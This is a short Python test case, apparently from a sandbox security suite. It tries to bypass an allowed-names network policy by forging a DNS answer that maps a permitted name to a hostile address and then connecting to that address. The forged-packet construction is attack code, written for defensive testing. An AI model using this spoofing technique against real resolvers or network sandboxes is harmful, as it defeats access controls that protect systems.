"""A forged answer from another socket
Lets a socket of one's own on 127.0.0.1 answer a question of the same number.
policy: allowed-names
audit: explicitlyDeniedIP
since: 3.6
proof: arrival
"""
import os
import socket
import struct


def attack(at):
    # The answer says that an allowed name has the foe's address.
    packet = at.query(b"forged.good.test")
    answer = packet[:2] + b"\x85\x80\0\1\0\1\0\0\0\0" + packet[12:] + b"\xc0\x0c\0\1\0\1\0\0\1\0\0\4" + socket.inet_aton(at.FOE)
    asker = at.udp()
    asker.bind(("127.0.0.1", 0))
    asker.sendto(packet, (at.RESOLVER, 53))
    own = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    own[0].send(answer)
    at.note(len(own[1].recv(500)))
    stream = at.tcp()
    stream.connect((at.FOE, at.PORT))
    return at.say(stream)
